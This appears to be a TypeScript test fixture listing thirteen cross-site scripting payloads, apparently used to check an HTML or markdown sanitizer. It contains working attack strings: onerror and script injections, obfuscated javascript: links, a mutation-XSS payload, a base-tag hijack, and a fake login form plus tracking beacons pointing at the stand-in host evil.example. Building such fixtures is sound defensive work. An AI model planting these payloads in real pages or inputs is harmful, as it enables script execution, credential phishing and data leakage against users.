/** Thirteen ways to run code in a document. Each requests `evil.example` or calls `alert` if it works. */
export const XSS_VECTORS = {
  imageError: `<img src=x onerror="alert(1)">`,
  svgScript: `<svg><script>alert(1)</script></svg><svg onload=alert(1)>`,
  scriptLink: `[click](javascript:alert(1)) <a href="javascript:alert(1)">click</a>`,
  hiddenScriptLink: `[click](jav&#x09;ascript:alert(1)) <a href="jav&#x09;ascript:alert(1)">click</a>`,
  styleElement: `<style>@import url(//evil.example/a.css); body { background: url(//evil.example/b) }</style>`,
  styleAttribute: `<div style="position:fixed;inset:0;background:url(//evil.example/c)">over everything</div>`,
  mutation: `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=alert(1)&gt;">`,
  form: `<form action="https://evil.example/d"><input name=password><button>Go</button></form>`,
  metaRefresh: `<meta http-equiv="refresh" content="0;url=https://evil.example/e">`,
  base: `<base href="https://evil.example/">`,
  frame: `<iframe srcdoc="<script>alert(1)</script>"></iframe><object data="//evil.example/f"></object>`,
  beacon: `![pixel](https://evil.example/g.png) <img src="//evil.example/h.png"><video poster=//evil.example/i>`,
  breakOut: `</title></style></script></textarea>--><script>alert(1)</script>"><script>alert(2)</script>`,
} as const;
